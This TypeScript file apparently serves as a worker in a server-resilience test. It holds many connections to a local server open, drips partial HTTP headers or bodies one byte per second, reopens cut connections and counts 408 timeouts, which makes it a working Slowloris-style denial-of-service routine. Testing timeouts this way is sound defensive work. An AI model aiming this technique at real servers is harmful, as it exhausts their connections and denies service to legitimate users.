// Holds a number of connections open against one server, each sending a byte now and then and never a whole request:
// half of them headers, half of them a body. One that is cut off is opened again, for as long as there are openings left.
import { connect } from 'node:net'
import { setTimeout } from 'node:timers/promises'
import { listenToParent } from './listen-to-parent.ts'

interface Needs {
  readonly url: string
  readonly sockets: number
  /** How long it takes until all of them are opened. */
  readonly openedInMilliseconds: number
}

const byteEveryMilliseconds = 1_000
const openingsForOne = 40
const counts = { opened: 0, cut: 0, answered408: 0, open: 0 }

const beginnings = [
  'POST /response HTTP/1.1\r\nHost: hotel.example\r\nX-Slow: ',
  'POST /response HTTP/1.1\r\nHost: hotel.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 9000\r\n\r\nresponse=',
]

listenToParent(async (message) => {
  if ('url' in (message as object)) await attack(message as Needs)
  return { ...counts }
})

/** Opens them evenly over that time, so that their bytes and their ends are spread as evenly. */
async function attack({ url, sockets, openedInMilliseconds }: Needs): Promise<void> {
  const port = Number(new URL(url).port)
  const opening = Array.from({ length: sockets }, async (_, at) => {
    await setTimeout((at * openedInMilliseconds) / sockets)
    await hold(port, at, openingsForOne)
  })
  await Promise.all(opening)
}

function hold(port: number, at: number, openings: number): Promise<void> {
  const socket = connect(port, '127.0.0.1')
  socket.setNoDelay(true)
  socket.on('error', () => {})
  socket.on('data', (heard: Buffer) => {
    if (heard.toString('latin1').includes(' 408 ')) counts.answered408++
  })
  return new Promise((resolve) => {
    socket.once('close', resolve)
    socket.once('connect', () => {
      counts.opened++
      counts.open++
      socket.write(beginnings[at % beginnings.length] ?? '')
      const dripping = setInterval(() => socket.write('x'), byteEveryMilliseconds)
      socket.once('close', async () => {
        clearInterval(dripping)
        counts.cut++
        counts.open--
        await setTimeout(50)
        if (openings > 1) await hold(port, at, openings - 1)
      })
      resolve()
    })
  })
}
